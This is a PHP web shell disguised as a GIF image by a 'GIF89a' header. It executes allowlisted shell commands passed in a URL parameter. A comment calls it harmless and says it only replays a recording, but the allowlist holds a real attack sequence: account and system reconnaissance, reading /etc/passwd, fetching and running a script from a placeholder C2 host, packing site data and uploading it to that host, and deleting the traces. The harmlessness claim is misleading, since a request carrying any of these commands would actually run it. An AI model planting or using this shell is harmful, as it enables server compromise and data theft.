GIF89a;
<?php
// Harmless on purpose: it runs the commands of the recording, letter by letter, and nothing else.
$allowed = [
  'id',
  'whoami',
  'uname -nsm',
  'cat /etc/passwd',
  'ls -la /srv/www',
  'curl -s -o /var/tmp/.cache.sh http://relay.c2.example/stage.sh',
  'nohup sh /var/tmp/.cache.sh >/dev/null 2>&1 &',
  'tar czf /var/tmp/.cache.tgz -C /srv/www data',
  'curl -s --data-binary @/var/tmp/.cache.tgz -H "Content-Type: application/octet-stream" http://relay.c2.example/in/web01.tgz',
  'curl -sk https://drop.exfil.example/api/done',
  'rm -f /var/tmp/.cache.tgz /var/tmp/.cache.sh',
];
if (isset($_GET['cmd'])) {
  header('Content-Type: text/plain');
  echo in_array($_GET['cmd'], $allowed, true) ? shell_exec($_GET['cmd']) : 'no';
}
